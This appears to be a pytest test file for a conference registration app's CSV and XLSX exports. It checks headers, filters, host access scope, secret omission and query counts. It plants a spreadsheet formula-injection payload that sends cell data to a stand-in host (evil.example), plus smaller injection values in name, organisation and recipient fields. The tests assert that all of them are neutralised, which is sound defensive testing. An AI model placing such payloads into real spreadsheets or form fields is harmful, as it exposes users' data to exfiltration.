"""The exports page and each download, parsed back with csv and openpyxl: exact headers and
rows, the delegates table's filter honoured, a host's scope kept, formulas neutralised."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import sqlalchemy as sa
from flask import g

from tests.factories import OPERATOR, make_conference, make_exhibitor, make_launch, make_subforum
from tests.helpers.accounts import log_in, make_account
from tests.helpers.registration import register
from tests.helpers.scale import insert_plain_delegates
from wuzhen_events import spreadsheets
from wuzhen_events.accounts.enums import Role
from wuzhen_events.accounts.models import Account
from wuzhen_events.extensions import db
from wuzhen_events.mail.models import OutboxMessage
from wuzhen_events.mail.outbox import queue_message
from wuzhen_events.program.models import Conference, Subforum
from wuzhen_events.registration import exports as registration_exports
from wuzhen_events.registration import services
from wuzhen_events.registration.enums import DelegateCategory, SeatStatus
from wuzhen_events.registration.models import Delegate, Invitation, SeatBooking
from wuzhen_events.spreadsheets import neutralised

WUZHEN = ZoneInfo("Asia/Shanghai")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

DELEGATE_HEADER = [
    "ID",
    "Name",
    "Name (Chinese)",
    "E-mail address",
    "Organisation",
    "Job title",
    "Country",
    "Category",
    "Status",
    "Language",
    "Registered at",
    "Approved at",
    "Checked in at",
    "Subforum places",
]
SEAT_HEADER = [
    "Subforum ID",
    "Subforum",
    "Subforum (Chinese)",
    "Delegate ID",
    "Name",
    "Name (Chinese)",
    "E-mail address",
    "Organisation",
    "Country",
    "Category",
    "Registration status",
    "Place",
    "Waitlist position",
    "Booked at",
    "Confirmed at",
    "Held until",
]


@dataclass
class ExportWorld:
    conference: Conference
    ai: Subforum  # one seat: Ada holds it, Li Wei and the formula wait in that order
    fintech: Subforum
    ada: Delegate
    li: Delegate
    formula: Delegate
    media: Delegate
    organizer: Account
    host: Account  # scoped to fintech


@pytest.fixture
def world(app) -> ExportWorld:
    conference = make_conference()
    ai = make_subforum(conference, title="AI Forum", title_zh="人工智能论坛", capacity=1)
    fintech = make_subforum(conference, title="Fintech Forum", title_zh="金融科技论坛", capacity=10)
    ada = register(_world(conference), "ada@example.org", ai, name="Ada Lovelace", country="GB")
    li = register(_world(conference), "li@example.cn", ai, fintech, name="Li Wei", name_zh="李伟")
    formula = register(
        _world(conference), "eve@example.net", ai, name=FORMULA, organisation="@SUM(1+1)"
    )
    media = register(
        _world(conference),
        "press@example.com",
        fintech,
        name="Wang Fang",
        name_zh="王芳",
        category=DelegateCategory.MEDIA,
        locale="zh",
    )
    return ExportWorld(
        conference,
        ai,
        fintech,
        ada,
        li,
        formula,
        media,
        make_account(Role.ORGANIZER),
        make_account(Role.SUBFORUM_HOST, subforums=[fintech]),
    )


@dataclass
class _world:
    conference: Conference


def signed_in(app, account: Account, locale: str | None = None):
    client = app.test_client()
    log_in(client, account)
    if locale:
        with client.session_transaction() as session:
            session["locale"] = locale
    return client


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def xlsx_rows(response) -> list[list]:
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def shown(moment: datetime | None) -> str:
    """An instant as the CSV shows it: conference time, to the second."""
    return "" if moment is None else moment.astimezone(WUZHEN).strftime("%Y-%m-%d %H:%M:%S")


def cell(moment: datetime | None) -> datetime | None:
    """An instant as openpyxl reads it back from the XLSX: conference time, naive."""
    return None if moment is None else moment.astimezone(WUZHEN).replace(tzinfo=None, microsecond=0)


def stored(delegate: Delegate) -> Delegate:
    db.session.expire_all()
    return db.session.get(Delegate, delegate.id)


def delegate_line(delegate: Delegate, places: str, time=shown) -> list:
    delegate = stored(delegate)
    line = [
        delegate.id,
        delegate.name,
        delegate.name_zh,
        delegate.email,
        delegate.organisation,
        delegate.job_title,
        delegate.country,
        delegate.category.value,
        delegate.status.value,
        delegate.locale,
        time(delegate.created_at),
        time(delegate.approved_at),
        time(delegate.checked_in_at),
        places,
    ]
    line = [neutralised(value) if isinstance(value, str) else value for value in line]
    if time is shown:
        return [str(line[0]), *line[1:]]
    return [value if value != "" else None for value in line]


# --- the page -----------------------------------------------------------------------------------


def test_the_page_lists_every_export_with_csv_and_xlsx_links(app, world):
    response = signed_in(app, world.organizer).get("/dashboard/exports/")

    page = response.get_data(as_text=True)
    assert response.status_code == 200
    for name in ("delegates", "seats", "exhibitors", "launches", "invitations", "emails"):
        assert f'href="/dashboard/exports/{name}.csv"' in page
        assert f'href="/dashboard/exports/{name}.xlsx"' in page


def test_a_host_is_offered_only_the_exports_of_their_subforums(app, world):
    response = signed_in(app, world.host).get("/dashboard/exports/")

    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert 'href="/dashboard/exports/delegates.csv"' in page
    assert 'href="/dashboard/exports/seats.xlsx"' in page
    for name in ("exhibitors", "launches", "invitations", "emails"):
        assert f"/dashboard/exports/{name}." not in page
    assert "You see the delegates and places of your subforums only." in page


def test_the_page_carries_the_delegates_table_filter_into_the_delegates_links(app, world):
    response = signed_in(app, world.organizer).get(
        "/dashboard/exports/?q=Li&status=confirmed&category=bogus&sort=name&order=desc"
    )

    page = response.get_data(as_text=True)
    assert 'href="/dashboard/exports/delegates.csv?q=Li&amp;status=confirmed&amp;sort=name' in page
    assert "&amp;order=desc" in page
    assert 'href="/dashboard/exports/seats.csv"' in page  # other exports take no filter
    assert "The delegates export keeps the table's filter" in page
    assert "<dt>Search</dt><dd>Li</dd>" in page
    assert "<dt>Status</dt><dd>Confirmed</dd>" in page
    assert "<dt>Sorted by</dt><dd>Name (descending)</dd>" in page
    assert "Category" not in page.split("export-filter")[1].split("</section>")[0]


# --- delegates ----------------------------------------------------------------------------------


def test_delegates_csv_holds_every_delegate_with_their_places(app, world):
    response = signed_in(app, world.organizer).get("/dashboard/exports/delegates.csv")

    assert csv_rows(response) == [
        DELEGATE_HEADER,
        delegate_line(world.ada, "AI Forum (confirmed)"),
        delegate_line(world.li, "AI Forum (waitlisted); Fintech Forum (confirmed)"),
        delegate_line(world.formula, "AI Forum (waitlisted)"),
        delegate_line(world.media, "Fintech Forum (confirmed)"),
    ]
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"


def test_delegates_xlsx_holds_the_same_rows_as_typed_cells(app, world):
    response = signed_in(app, world.organizer).get("/dashboard/exports/delegates.xlsx")

    assert xlsx_rows(response) == [
        DELEGATE_HEADER,
        delegate_line(world.ada, "AI Forum (confirmed)", cell),
        delegate_line(world.li, "AI Forum (waitlisted); Fintech Forum (confirmed)", cell),
        delegate_line(world.formula, "AI Forum (waitlisted)", cell),
        delegate_line(world.media, "Fintech Forum (confirmed)", cell),
    ]
    assert response.headers["Content-Type"] == spreadsheets.XLSX_CONTENT_TYPE


@pytest.mark.parametrize(
    ("query", "names"),
    [
        ("category=media", ["Wang Fang"]),
        ("q=李伟", ["Li Wei"]),
        ("country=GB", ["Ada Lovelace"]),
        ("seat=waitlisted", ["Li Wei", FORMULA]),
        ("sort=name&order=desc", ["Wang Fang", "Li Wei", "Ada Lovelace", FORMULA]),
        ("q=nobody", []),
        ("status=nonsense&subforum=x", ["Ada Lovelace", "Li Wei", FORMULA, "Wang Fang"]),
    ],
    ids=["category", "chinese-search", "country", "seat", "sorted", "nothing", "bad-values"],
)
def test_delegates_export_honours_the_table_filter(app, world, query, names):
    response = signed_in(app, world.organizer).get(f"/dashboard/exports/delegates.csv?{query}")

    rows = csv_rows(response)
    assert rows[0] == DELEGATE_HEADER
    assert [row[1].removeprefix("'") for row in rows[1:]] == names


def test_a_subforum_filter_keeps_that_subforums_delegates(app, world):
    response = signed_in(app, world.organizer).get(
        f"/dashboard/exports/delegates.csv?subforum={world.fintech.id}"
    )

    assert [row[1] for row in csv_rows(response)[1:]] == ["Li Wei", "Wang Fang"]


def test_a_hosts_delegates_export_holds_only_their_subforums_delegates_and_places(app, world):
    response = signed_in(app, world.host).get("/dashboard/exports/delegates.csv")

    assert csv_rows(response) == [
        DELEGATE_HEADER,
        delegate_line(world.li, "Fintech Forum (confirmed)"),
        delegate_line(world.media, "Fintech Forum (confirmed)"),
    ]


def test_a_host_cannot_widen_their_scope_with_the_filter(app, world):
    response = signed_in(app, world.host).get(
        f"/dashboard/exports/delegates.xlsx?subforum={world.ai.id}"
    )

    assert [row[1] for row in xlsx_rows(response)[1:]] == ["Li Wei"]


def test_a_host_with_no_subforum_exports_no_delegate(app, world):
    host = make_account(Role.SUBFORUM_HOST)

    response = signed_in(app, host).get("/dashboard/exports/delegates.csv")

    assert csv_rows(response) == [DELEGATE_HEADER]


def test_a_formula_in_a_delegates_name_comes_out_neutralised(app, world):
    client = signed_in(app, world.organizer)

    csv_row = csv_rows(client.get("/dashboard/exports/delegates.csv?country=CN&q=eve"))[1]
    xlsx_row = xlsx_rows(client.get("/dashboard/exports/delegates.xlsx?q=eve"))[1]

    assert (csv_row[1], csv_row[4]) == ("'" + FORMULA, "'@SUM(1+1)")
    assert (xlsx_row[1], xlsx_row[4]) == ("'" + FORMULA, "'@SUM(1+1)")


def test_headers_and_places_are_in_the_accounts_language(app, world):
    response = signed_in(app, world.organizer, locale="zh").get(
        "/dashboard/exports/delegates.csv?category=media"
    )

    rows = csv_rows(response)
    assert [rows[0][1], rows[0][4], rows[0][7], rows[0][8], rows[0][9]] == [
        "姓名",
        "机构",
        "类别",
        "状态",
        "语言",
    ]
    assert rows[1][1:3] == ["Wang Fang", "王芳"]  # both content columns, whatever the language
    assert rows[1][13] == "金融科技论坛 (confirmed)"


def test_the_download_is_an_attachment_with_an_ascii_and_a_utf8_name(app, world):
    app.config["FROZEN_NOW"] = datetime(2018, 11, 7, 17, 0, tzinfo=UTC)  # the 8th in Wuzhen

    english = signed_in(app, world.organizer).get("/dashboard/exports/seats.xlsx")

    assert english.headers["Content-Disposition"] == (
        'attachment; filename="wic2018-seats-2018-11-08.xlsx"; '
        "filename*=UTF-8''wic2018-Seats-and-waitlists-2018-11-08.xlsx"
    )
    assert english.headers["Cache-Control"] == "no-store"


# --- seats and waitlists ------------------------------------------------------------------------


def seat_line(subforum: Subforum, delegate: Delegate, position: int | None) -> list[str]:
    delegate = stored(delegate)
    booking = db.session.scalar(
        sa.select(SeatBooking).where(
            SeatBooking.delegate_id == delegate.id, SeatBooking.subforum_id == subforum.id
        )
    )
    return [
        str(subforum.id),
        subforum.title,
        subforum.title_zh,
        str(delegate.id),
        delegate.name if not delegate.name.startswith("=") else "'" + delegate.name,
        delegate.name_zh,
        delegate.email,
        delegate.organisation if not delegate.organisation.startswith("@") else "'@SUM(1+1)",
        delegate.country,
        delegate.category.value,
        delegate.status.value,
        booking.status.value,
        "" if position is None else str(position),
        shown(booking.created_at),
        shown(booking.confirmed_at),
        shown(booking.held_until),
    ]


def test_seats_export_lists_each_subforums_places_with_waitlist_positions(app, world):
    response = signed_in(app, world.organizer).get("/dashboard/exports/seats.csv")

    assert csv_rows(response) == [
        SEAT_HEADER,
        seat_line(world.ai, world.ada, None),
        seat_line(world.ai, world.li, 1),
        seat_line(world.ai, world.formula, 2),
        seat_line(world.fintech, world.li, None),
        seat_line(world.fintech, world.media, None),
    ]


def test_seat_positions_follow_the_queue_after_a_cancellation(app, world):
    services.cancel_registration(stored(world.ada), actor=OPERATOR)  # Li Wei takes the seat

    rows = csv_rows(signed_in(app, world.organizer).get("/dashboard/exports/seats.csv"))

    ai_rows = [(row[4], row[11], row[12]) for row in rows[1:] if row[0] == str(world.ai.id)]
    assert ai_rows == [("Li Wei", "confirmed", ""), ("'" + FORMULA, "waitlisted", "1")]


def test_a_hosts_seats_export_holds_only_their_subforums(app, world):
    response = signed_in(app, world.host).get("/dashboard/exports/seats.xlsx")

    rows = xlsx_rows(response)
    assert rows[0] == SEAT_HEADER
    assert [(row[0], row[4], row[11]) for row in rows[1:]] == [
        (world.fintech.id, "Li Wei", "confirmed"),
        (world.fintech.id, "Wang Fang", "confirmed"),
    ]


# --- the whole conference's exports -------------------------------------------------------------


@pytest.mark.parametrize("name", ["exhibitors", "launches", "invitations", "emails"])
def test_a_host_may_not_download_the_whole_conferences_exports(app, world, name):
    client = signed_in(app, world.host)

    assert client.get(f"/dashboard/exports/{name}.csv").status_code == 403
    assert client.get(f"/dashboard/exports/{name}.xlsx").status_code == 403


def test_exhibitors_and_launches_in_both_languages(app, world):
    sogou = make_exhibitor(
        world.conference,
        company="Sogou",
        company_zh="搜狗",
        country="CN",
        hall="1",
        booth="A101",
        website="https://www.sogou.com",
        description="Search and AI",
        description_zh="搜索与人工智能",
    )
    quiet = make_exhibitor(world.conference, company="-Quiet Ltd", hall="1", booth="A102")
    launch = make_launch(
        sogou,
        world.conference,
        product="AI news anchor",
        product_zh="AI合成主播",
        stage="Stage A",
        stage_zh="A发布台",
        starts_at=datetime(2018, 11, 7, 6, 0, tzinfo=UTC),
    )
    client = signed_in(app, world.organizer)

    exhibitors = csv_rows(client.get("/dashboard/exports/exhibitors.csv"))
    launches = xlsx_rows(client.get("/dashboard/exports/launches.xlsx"))

    assert exhibitors == [
        [
            "ID",
            "Company",
            "Company (Chinese)",
            "Sector",
            "Country",
            "Hall",
            "Booth",
            "Website",
            "Launches",
            "Description",
            "Description (Chinese)",
        ],
        [
            str(sogou.id),
            "Sogou",
            "搜狗",
            "artificial-intelligence",
            "CN",
            "1",
            "A101",
            "https://www.sogou.com",
            "1",
            "Search and AI",
            "搜索与人工智能",
        ],
        [
            str(quiet.id),
            "'-Quiet Ltd",
            "",
            "artificial-intelligence",
            "CN",
            "1",
            "A102",
            "",
            "0",
            "",
            "",
        ],
    ]
    assert launches == [
        [
            "ID",
            "Exhibitor ID",
            "Company",
            "Company (Chinese)",
            "Hall",
            "Booth",
            "Product",
            "Product (Chinese)",
            "Stage",
            "Stage (Chinese)",
            "Starts at",
            "Ends at",
            "Description",
            "Description (Chinese)",
        ],
        [
            launch.id,
            sogou.id,
            "Sogou",
            "搜狗",
            "1",
            "A101",
            "AI news anchor",
            "AI合成主播",
            "Stage A",
            "A发布台",
            datetime(2018, 11, 7, 14, 0),
            datetime(2018, 11, 7, 14, 30),
            None,
            None,
        ],
    ]


def test_invitations_export_never_holds_the_code_or_its_hash(app, world):
    open_invitation, open_code = services.create_invitation(
        world.conference,
        email="Minister@Gov.example",
        category=DelegateCategory.GOVERNMENT,
        actor=OPERATOR,
    )
    used_invitation, used_code = services.create_invitation(
        world.conference,
        email="envoy@un.example",
        category=DelegateCategory.INTERNATIONAL_ORGANISATION,
        actor=OPERATOR,
    )
    envoy = register(
        _world(world.conference),
        "envoy@un.example",
        name="Envoy",
        name_zh="特使",
        category=DelegateCategory.INTERNATIONAL_ORGANISATION,
        invitation_code=used_code,
    )
    db.session.expire_all()
    invitations = {row.id: row for row in db.session.scalars(sa.select(Invitation))}
    first, second = invitations[open_invitation.id], invitations[used_invitation.id]
    client = signed_in(app, world.organizer)

    response = client.get("/dashboard/exports/invitations.csv")

    assert csv_rows(response) == [
        [
            "ID",
            "E-mail address",
            "Category",
            "State",
            "Created at",
            "Expires at",
            "Used at",
            "Delegate ID",
            "Delegate name",
            "Delegate name (Chinese)",
        ],
        [
            str(first.id),
            "minister@gov.example",
            "government",
            "open",
            shown(first.created_at),
            "",
            "",
            "",
            "",
            "",
        ],
        [
            str(second.id),
            "envoy@un.example",
            "international_organisation",
            "used",
            shown(second.created_at),
            "",
            shown(second.used_at),
            str(envoy.id),
            "Envoy",
            "特使",
        ],
    ]
    xlsx = client.get("/dashboard/exports/invitations.xlsx").data
    for secret in (open_code, used_code, first.code_hash, second.code_hash):
        assert secret.encode() not in response.data
        assert secret.encode() not in xlsx


def test_an_expired_invitation_says_so(app, world):
    invitation, _code = services.create_invitation(
        world.conference,
        email="late@gov.example",
        category=DelegateCategory.GOVERNMENT,
        expires_at=datetime.now(UTC) + timedelta(hours=1),
        actor=OPERATOR,
    )
    app.config["FROZEN_NOW"] = datetime.now(UTC) + timedelta(hours=2)

    rows = csv_rows(signed_in(app, world.organizer).get("/dashboard/exports/invitations.csv"))

    assert rows[1][:4] == [str(invitation.id), "late@gov.example", "government", "expired"]


def test_email_log_lists_the_outbox_without_bodies(app, world):
    with db.session.begin_nested():
        queue_message(
            kind="campaign",
            recipient="=cmd@example.org",
            subject="Your link: SECRET-TOKEN",
            text_body="Open https://example.org/me/SECRET-BODY-TOKEN/",
            html_body="<a href='https://example.org/me/SECRET-BODY-TOKEN/'>open</a>",
        )
    db.session.commit()
    failed = db.session.scalars(sa.select(OutboxMessage).order_by(OutboxMessage.id)).first()
    failed.status = failed.status.FAILED
    failed.attempts = 5
    failed.last_error = "550 mailbox unavailable"
    failed.failed_at = datetime(2018, 11, 6, 1, 0, tzinfo=UTC)
    db.session.commit()
    db.session.expire_all()
    messages = db.session.scalars(sa.select(OutboxMessage).order_by(OutboxMessage.id)).all()
    client = signed_in(app, world.organizer)

    response = client.get("/dashboard/exports/emails.csv")

    expected = [
        [
            "ID",
            "Recipient",
            "Subject",
            "Kind",
            "Status",
            "Attempts",
            "Queued at",
            "Sent at",
            "Failed at",
            "Failure reason",
        ]
    ]
    for message in messages:
        expected.append(
            [
                str(message.id),
                ("'" if message.recipient.startswith("=") else "") + message.recipient,
                message.subject,
                message.kind,
                message.status.value,
                str(message.attempts),
                shown(message.created_at),
                shown(message.sent_at),
                shown(message.failed_at),
                message.last_error,
            ]
        )
    assert csv_rows(response) == expected
    assert [row[1] for row in expected[1:]] == [
        "ada@example.org",
        "li@example.cn",
        "eve@example.net",
        "press@example.com",
        "'=cmd@example.org",
    ]
    assert expected[1][4:6] == ["failed", "5"]
    assert expected[1][8:] == ["2018-11-06 09:00:00", "550 mailbox unavailable"]
    xlsx = client.get("/dashboard/exports/emails.xlsx").data
    assert b"SECRET-BODY-TOKEN" not in response.data
    assert b"SECRET-BODY-TOKEN" not in xlsx


# --- queries ------------------------------------------------------------------------------------


def add_places(conference: Conference, subforum: Subforum) -> None:
    """A waitlist place in `subforum` for every delegate inserted in bulk."""
    ids = db.session.scalars(
        sa.select(Delegate.id).where(Delegate.conference_id == conference.id)
    ).all()
    db.session.connection().execute(
        sa.insert(SeatBooking.__table__),
        [
            {
                "delegate_id": delegate_id,
                "subforum_id": subforum.id,
                "status": SeatStatus.WAITLISTED,
                "created_at": datetime(2018, 10, 1, tzinfo=UTC),
            }
            for delegate_id in ids
        ],
    )
    db.session.commit()


def queries_of(client, url: str, query_counter) -> int:
    # Each request starts with nothing loaded, as in a real worker: the tests' app context
    # would otherwise keep the session's rows and Flask-Login's user from the last request.
    db.session.remove()
    g.pop("_login_user", None)
    with query_counter(db.engine) as log:
        response = client.get(url)
        assert response.status_code == 200
        assert response.data
    return log.count


@pytest.mark.parametrize("name", ["delegates", "seats", "invitations", "emails"])
def test_an_export_runs_as_many_queries_for_1000_rows_as_for_10(app, query_counter, name):
    conference = make_conference()
    subforum = make_subforum(conference, capacity=5000)
    client = signed_in(app, make_account(Role.ORGANIZER))
    insert_plain_delegates(conference, 10)
    add_places(conference, subforum)
    conference_id, subforum_id = conference.id, subforum.id
    few = queries_of(client, f"/dashboard/exports/{name}.csv", query_counter)
    conference = db.session.get(Conference, conference_id)
    insert_plain_delegates(conference, 990, start=10)
    db.session.execute(sa.delete(SeatBooking))
    db.session.commit()
    add_places(conference, db.session.get(Subforum, subforum_id))

    many = queries_of(client, f"/dashboard/exports/{name}.xlsx", query_counter)

    assert (few, many) == (few, few)


def test_a_delegates_export_runs_one_places_query_per_batch(app, query_counter, monkeypatch):
    monkeypatch.setattr(registration_exports, "BATCH_SIZE", 100)
    conference = make_conference()
    subforum = make_subforum(conference, capacity=5000)
    organizer = make_account(Role.ORGANIZER)
    insert_plain_delegates(conference, 1000)
    add_places(conference, subforum)

    client = signed_in(app, organizer)
    with query_counter(db.engine) as log:
        rows = csv_rows(client.get("/dashboard/exports/delegates.csv"))

    places = [statement for statement in log.statements if "FROM seat_bookings" in statement]
    assert (len(rows), len(places)) == (1001, 10)
    assert rows[1][13] == f"{subforum.title} (waitlisted)"
